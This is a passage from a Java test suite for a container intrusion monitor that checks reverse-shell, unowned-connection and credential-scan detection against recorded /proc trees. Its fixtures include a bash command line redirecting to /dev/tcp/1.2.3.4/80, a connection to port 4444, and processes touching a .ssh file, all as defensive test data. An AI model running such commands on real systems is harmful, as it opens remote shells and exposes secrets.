                tcp(v4("127.0.0.1", 5), v4("127.0.0.1", 6), "01", 9703), tcp(v4("10.0.0.2", 7000), v4(REMOTE, 50000), "01", 0),
                tcp(v4("10.0.0.2", 40001), v4(REMOTE, 4444), "01", 9701), tcp(v4("10.0.0.2", 40002), v4(REMOTE, 80), "01", 9706),
                tcp(v4("10.0.0.2", 40003), v4(REMOTE, 81), "02", 9707));
        net(1, "tcp6", "");
        net(1, "udp", udp(v4("10.0.0.2", 5353), v4(REMOTE, 53), "01", 9705));
        net(1, "udp6", "");
        Target target = new Target("coi-u");
        HostView view = new HostView(proc, cgroups);
        List<Integer> pids = view.pids("coi-u", view.cgroupOf(target.payload()));
        List<Threat> java = Detectors.unownedConnections(List.of(view.detailed("coi-u", pids), view.detailed("coi-u", pids)));
        assertThat(java).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.HIGH);
            assertThat(t.title()).isEqualTo("connection to " + REMOTE + ":4444 held by no process");
            assertThat(t.evidence().process()).isNull();
            assertThat(t.evidence().network().local()).isEqualTo("10.0.0.2:40001");
        });
        assertThat(Detectors.unownedConnections(List.of(view.detailed("coi-u", pids)))).as("one look: nothing to tell by").isEmpty();
        writeTargets(target);
        printsExactly(run(List.of(), "--twice"), expected(target, java));
    }

    @Test
    void aCgroupNestedBeyondAPathIsTooMuch() throws IOException {
        cgroup("", "coi-deep", List.of(1), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        Path dir = cgroups.resolve("lxc.payload.coi-deep");
        while (4090 - dir.toString().length() > 256) {
            dir = dir.resolve("d".repeat(200));
            write(dir.resolve("cgroup.procs"), ""); // each one walked into, down to the last one's parent
        }
        dir = dir.resolve("e".repeat(4090 - dir.toString().length() - 1));
        Files.createDirectories(dir);
        assertThat(dir.toString().length()).isBetween(4083, 4095);
        assertThat(javaTitles(new Target("coi-deep"))).isEmpty();
        assertThat(tooMuch(new Target("coi-deep"))).contains("has a path over 4095 bytes");
    }

    /**
     * A process whose cwd (or exe, or a descriptor) is a path over PATH_MAX: the kernel cannot give the link's target
     * (ENAMETOOLONG). HostView skips such a process as if it had ended (the Java monitor does not see it at all); the
     * native look is too much instead. A real process, its /proc folder linked into the recorded tree.
     */
    @Test
    void aProcessWithALinkTooLongToReadIsTooMuchNotLeftOut() throws IOException, InterruptedException {
        Path base = Files.createTempDirectory("coi-deep-cwd");
        Process deep = new ProcessBuilder("sh", "-c", "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22; do mkdir \"$1\" && cd -P \"$1\" || exit 1; done; exec sleep 60",
                "sh", "d".repeat(200)).directory(base.toFile()).redirectErrorStream(true).start();
        try {
            Path real = Path.of("/proc/" + deep.pid());
            for (int i = 0; i < 500 && !Files.readSymbolicLink(real.resolve("exe")).toString().endsWith("sleep"); i++) Thread.sleep(10);
            assertThat(Files.readSymbolicLink(real.resolve("exe")).toString()).endsWith("sleep");
            cgroup("", "coi-cwd", List.of(1, (int) deep.pid()), Map.of());
            process(1, "/sbin/init", "/sbin/init");
            Files.createSymbolicLink(proc.resolve(Long.toString(deep.pid())), real);
            assertThat(tooMuch(new Target("coi-cwd"))).contains("a link of pid " + deep.pid() + " has a target too long to read");
            // the supervisor's monitor, which the container goes back to, keeps the process (its cwd unknown), not skipped as gone
            HostView view = new HostView(proc, cgroups);
            Snapshot s = view.detailed("coi-cwd", view.pids("coi-cwd", view.cgroupOf("lxc.payload.coi-cwd")));
            assertThat(s.processes()).as("the Java monitor sees it").anySatisfy(p -> {
                assertThat(p.pid()).isEqualTo((int) deep.pid());
                assertThat(p.cwd()).isNull();
                assertThat(p.exe()).endsWith("sleep");
            });
        } finally {
            deep.destroy();
            deep.waitFor(10, TimeUnit.SECONDS);
            new ProcessBuilder("rm", "-rf", base.toString()).inheritIO().start().waitFor(60, TimeUnit.SECONDS);
        }
    }

    /**
     * A command line longer than the evidence keeps (MON_MAX_CMDLINE, 8192 bytes) is cut for the JSON, and ends with an
     * empty argument and "[cut: N bytes, fnv1a64 H]" (H of the whole joined command line): two that differ past the
     * cut do not share a dedup key. A title longer than 511 bytes ends with its own hash, in letters.
     */
    @Test
    void longCommandLinesAndTitlesAreCutWithTheirHashSoThatTheirKeysDiffer() throws IOException {
        cgroup("", "coi-k", List.of(1, 250, 251), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        String pad = "\u00e9".repeat(5000); // 10000 bytes: the cut falls between the two bytes of a character
        process(250, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + "1");
        process(251, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + "2");
        Run run = runLook(List.of(), new Target("coi-k"));
        assertThat(run.status()).isZero();
        List<JsonNode> lines = new ArrayList<>();
        for (String line : run.out().split("\n")) lines.add(JSON.readTree(line));
        assertThat(lines).hasSize(4);
        List<String> keys = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            JsonNode threat = lines.get(2 * i).get("threat");
            String key = lines.get(2 * i + 1).asText();
            keys.add(key);
            List<String> cmdline = new ArrayList<>();
            threat.get("evidence").get("process").get("cmdline").forEach(a -> cmdline.add(a.asText()));
            String joined = String.join(" ", cmdline);
            assertThat(key).isEqualTo(threat.get("category").asText() + "|" + threat.get("title").asText().replaceAll("\\d+", "#") + "|" + joined)
                    .as("the supervisor's key from the JSON is the native one");
            List<String> whole = List.of("bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + (i + 1));
            byte[] all = String.join("\0", whole).getBytes(StandardCharsets.UTF_8);
            String mark = String.format(Locale.ROOT, "[cut: %d bytes, fnv1a64 %016x]", all.length, fnv1a(all));
            assertThat(cmdline).hasSize(6).startsWith("bash", "-c", "x >/dev/tcp/1.2.3.4/80").endsWith("", mark);
            assertThat(pad).startsWith(cmdline.get(3));
            assertThat(String.join("\0", cmdline).getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(8192)
                    .isGreaterThan(8192 - 4 - 2 - mark.length());
        }
        assertThat(keys.get(0)).isNotEqualTo(keys.get(1));
        // two programs whose names make titles over 511 bytes
        String name = "p".repeat(600);
        process(253, "/usr/bin/" + name + "1", "x", "/home/code/.ssh/a");
        process(254, "/usr/bin/" + name + "2", "x", "/home/code/.ssh/a");
        Files.writeString(cgroups.resolve("lxc.payload.coi-k/cgroup.procs"), "1\n253\n254\n");
        run = runLook(List.of(), new Target("coi-k"));
        List<String> titles = new ArrayList<>();
        for (String line : run.out().split("\n")) if (line.startsWith("{")) titles.add(JSON.readTree(line).get("threat").get("title").asText());
        assertThat(titles).hasSize(2);
        for (int i = 0; i < 2; i++) {
            String full = "reading credential files by " + name + (i + 1);
            long h = fnv1a(full.getBytes(StandardCharsets.UTF_8));
            StringBuilder letters = new StringBuilder();
            for (int k = 15; k >= 0; k--) letters.append((char) ('a' + ((h >>> (4 * k)) & 0xF)));
            assertThat(titles.get(i)).hasSize(511).startsWith(full.substring(0, 479)).endsWith(" [cut: fnv1a64 " + letters + "]");
        }
        assertThat(titles.get(0)).isNotEqualTo(titles.get(1));
    }

    private static long fnv1a(byte[] bytes) {
        long h = 0xcbf29ce484222325L;
        for (byte x : bytes) {
            h ^= x & 0xff;
            h *= 0x100000001b3L;
        }
        return h;
    }

    /** The Java reference's titles for a target (what the native look must not leave out). */
    private List<String> javaTitles(Target t) {
        HostView view = new HostView(proc, cgroups);
        List<Integer> pids = view.pids(t.container(), view.cgroupOf(t.payload()));
        Snapshot s = pids.size() > t.countThreshold() ? view.bare(t.container(), pids) : view.detailed(t.container(), pids, t.init());
        List<Threat> found = new ArrayList<>(Detectors.reverseShells(s));
        found.addAll(Detectors.connections(s, t.ports()));
        found.addAll(Detectors.credentialScans(s));
        return found.stream().map(Threat::title).toList();
    }

    private String tooMuch(Target t) throws IOException {
        return tooMuch(List.of(), t);
    }

    /** The binary's look at t must fail: status 1, nothing on stdout, one line on stderr starting with MON_TOO_MUCH. */
    private String tooMuch(List<Integer> execs, Target t) throws IOException {
        Run run = runLook(execs, t);
        assertThat(run.status()).as(run.err()).isEqualTo(1);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).startsWith(TOO_MUCH).endsWith("\n");
        assertThat(run.err().lines()).hasSize(1);
        return run.err();
    }

    private Run runLook(List<Integer> execs, Target... targets) throws IOException {
        writeTargets(targets);
        return run(execs);
    }

    // ------------------------------------------------------------------------------------------------ both sides

    private Found compare(Target... targets) throws IOException {
        return compare(List.of(), targets);
    }

    /** Both looks at the targets; asserts they found the same threats, in the same order; returns them. */
    private Found compare(List<Integer> execs, Target... targets) throws IOException {
        HostView view = new HostView(proc, cgroups);
        List<String> expected = new ArrayList<>();
        List<Threat> threats = new ArrayList<>();
        for (Target t : targets) {
            Path cgroup = view.cgroupOf(t.payload());
            List<Integer> pids = view.pids(t.container(), cgroup);
            Snapshot s = pids.size() > t.countThreshold() ? view.bare(t.container(), pids) : view.detailed(t.container(), pids, t.init());
            List<Snapshot.Proc> seen = new ArrayList<>();
            for (int pid : execs) {
                if (!t.payload().equals(view.payloadOf(pid))) continue;
                view.process(pid).filter(p -> !p.cmdline().isEmpty()).ifPresent(seen::add);
            }
            s = s.withExecs(seen);
            List<Threat> found = new ArrayList<>(Detectors.reverseShells(s));
            found.addAll(Detectors.connections(s, t.ports()));
            found.addAll(Detectors.credentialScans(s));
            expected.addAll(expected(t, found));
            threats.addAll(found);
        }
        writeTargets(targets);
        return new Found(printsExactly(run(execs), expected), threats);
    }

    /** The binary succeeded, said nothing on stderr and printed these lines (as JSON trees), in this order; its lines. */
    private static List<String> printsExactly(Run run, List<String> expected) throws IOException {
        assertThat(run.err()).isEmpty();
        assertThat(run.status()).isZero();
        List<String> actual = new ArrayList<>();
        for (String line : run.out().split("\n")) if (!line.isEmpty()) actual.add(JSON.readTree(line).toString());
        assertThat(actual).containsExactlyElementsOf(expected);
        return actual;
    }

    /** The lines `coi-waiter --look --dedup` prints for these threats of t: each as JSON, then its dedup key. */
    private static List<String> expected(Target t, List<Threat> found) {
        List<String> expected = new ArrayList<>();
        for (Threat threat : found) {
            ObjectNode line = JSON.createObjectNode();
            line.put("container", t.container());
            line.put("killed", false);
            line.set("threat", JSON.valueToTree(threat));
            expected.add(line.toString());
            expected.add(JSON.valueToTree(threat.dedupKey()).toString());
        }
        return expected;
    }

    private void writeTargets(Target... targets) throws IOException {
        StringBuilder text = new StringBuilder("coi-monitor-targets\t1\nnft\tinet\tcoi\n");
        for (Target t : targets) text.append(t.line()).append('\n');
        Files.writeString(root.resolve("targets"), text);
    }

    record Run(int status, String out, String err) {}

    private Run run(List<Integer> execs, String... options) throws IOException {
        assertThat(WAITER).as("built by mvn compile").isExecutable();
        List<String> command = new ArrayList<>(List.of(WAITER.toString(), "--look", proc.toString(), cgroups.toString(),
                root.resolve("targets").toString(), "--dedup"));
        command.addAll(List.of(options));
        for (int pid : execs) command.addAll(List.of("--exec", Integer.toString(pid)));
        Process p = new ProcessBuilder(command).redirectError(root.resolve("stderr").toFile()).start();
        byte[] out = p.getInputStream().readAllBytes();
        try {
            assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        } catch (InterruptedException e) {
            throw new IOException(e);
        }
        return new Run(p.exitValue(), new String(out, StandardCharsets.UTF_8), Files.readString(root.resolve("stderr")));
    }

    private static String observationMessage(Runnable r) {
        try {
            r.run();
        } catch (ObservationException e) {
            return e.getMessage();
        }
        throw new AssertionError("no ObservationException");
    }

    // ------------------------------------------------------------------------------------------------ recorded trees

    private void cgroup(String layout, String container, List<Integer> top, Map<String, List<Integer>> subgroups) throws IOException {
        Path dir = cgroups.resolve(layout + "lxc.payload." + container);
        write(dir.resolve("cgroup.procs"), lines(top));
        for (var e : subgroups.entrySet()) write(dir.resolve(e.getKey()).resolve("cgroup.procs"), lines(e.getValue()));
    }

    private static String lines(List<Integer> pids) {
        return pids.stream().map(p -> p + "\n").collect(Collectors.joining());
    }

    /** A process as HostViewTest records one: host uid 1001000 (1000 inside), cwd /workspace; exe null for none. */
    private void process(int pid, String exe, String... cmdline) throws IOException {
        List<byte[]> args = Arrays.stream(cmdline).map(NativeLookTest::b).toList();
        processBytes(pid, exe, args, null);
    }

    private void processBytes(int pid, String exe, List<byte[]> cmdline, byte[] rawExe) throws IOException {
        Path dir = proc.resolve(Integer.toString(pid));
        String comm = cmdline.isEmpty() ? "x" : new String(cmdline.getFirst(), StandardCharsets.UTF_8);
        comm = comm.substring(comm.lastIndexOf('/') + 1);
        write(dir.resolve("stat"), pid + " (" + comm + ") S 1 1 1 0 -1\n");
        write(dir.resolve("status"), "Name:\t" + comm + "\nUid:\t1001000\t1001000\t1001000\t1001000\n");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] a : cmdline) {
            bytes.write(a);
            bytes.write(0);
        }
        Files.write(dir.resolve("cmdline"), bytes.toByteArray());
        write(dir.resolve("io"), "rchar: 10\nwchar: 20\nsyscr: 3\n");
        write(dir.resolve("uid_map"), "         0    1000000 1000000000\n");
        Files.createDirectories(dir.resolve("fd"));
        Files.createDirectories(dir.resolve("net"));
        if (exe != null) Files.createSymbolicLink(dir.resolve("exe"), Path.of(exe));
        if (rawExe != null) rawLink(dir.resolve("exe"), rawExe);
        Files.createSymbolicLink(dir.resolve("cwd"), Path.of("/workspace"));
    }

    /** A process's stat with its state and num_threads (the 20th field). */
    private void stat(int pid, String comm, String state, int threads) throws IOException {
        write(proc.resolve(pid + "/stat"), pid + " (" + comm + ") " + state + " 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 " + threads + " 0 0\n");
    }

    private void fd(int pid, int fd, String target) throws IOException {
        Files.createSymbolicLink(proc.resolve(pid + "/fd/" + fd), Path.of(target));
    }

    /** A symbolic link to bytes Java cannot name (not UTF-8): made by the shell from octal escapes. */
    private static void rawLink(Path link, byte[] target) throws IOException {
        StringBuilder octal = new StringBuilder();
        for (byte x : target) octal.append(String.format(Locale.ROOT, "\\0%03o", x & 0xff));
        Process p = new ProcessBuilder("sh", "-c", "t=\"$(printf '%bx' \"$1\")\"; ln -s \"${t%x}\" \"$2\"", "sh", octal.toString(), link.toString())
                .inheritIO().start();
        try {
            assertThat(p.waitFor()).isZero();
        } catch (InterruptedException e) {
            throw new IOException(e);
        }
    }

    private void net(int pid, String table, String... rows) throws IOException {
        StringBuilder text = new StringBuilder("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n");
        for (int i = 0; i < rows.length; i++) if (!rows[i].isEmpty()) text.append(String.format(Locale.ROOT, "%4d: %s\n", i, rows[i]));
        write(proc.resolve(pid + "/net/" + table), text.toString());
    }

    private static String tcp(String local, String remote, String state, long inode) {
        return local + " " + remote + " " + state + " 00000000:00000000 00:00000000 00000000  1000        0 " + inode
                + " 1 0000000000000000 20 4 30 10 -1";
    }

    private static String udp(String local, String remote, String state, long inode) {
        return local + " " + remote + " " + state + " 00000000:00000000 00:00000000 00000000  1000        0 " + inode + " 2 0000000000000000 0";
    }

    /** An IPv4 endpoint as the kernel prints it: the address as one little-endian word. */
    private static String v4(String ip, int port) throws IOException {
        byte[] a = InetAddress.getByName(ip).getAddress();
        return String.format(Locale.ROOT, "%02X%02X%02X%02X:%04X", a[3], a[2], a[1], a[0], port);
    }

    /** An IPv6 endpoint as the kernel prints it: four little-endian words (mixed case, as both are read). */
    private static String v6(String ip, int port) throws IOException {
        byte[] a;
        if (ip.startsWith("::ffff:") && ip.contains(".")) {
            a = new byte[16];
            a[10] = a[11] = (byte) 0xff;
            System.arraycopy(InetAddress.getByName(ip.substring(7)).getAddress(), 0, a, 12, 4);
        } else {
            a = InetAddress.getByName(ip).getAddress();
        }
        StringBuilder hex = new StringBuilder();
        for (int word = 0; word < 4; word++)
            for (int i = 3; i >= 0; i--) hex.append(String.format(Locale.ROOT, word % 2 == 0 ? "%02X" : "%02x", a[word * 4 + i]));
        return hex + String.format(Locale.ROOT, ":%04X", port);
    }

    private static byte[] b(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String hex(String s) {
        StringBuilder h = new StringBuilder();
        for (byte x : b(s)) h.append(String.format(Locale.ROOT, "%02x", x));
        return h.toString();
    }

    private static void write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    private static void deleteTree(Path dir) throws IOException {
        try (var walk = Files.walk(dir)) {
            for (Path p : walk.sorted((a, b) -> b.getNameCount() - a.getNameCount()).toList()) Files.delete(p);
        }
    }
}
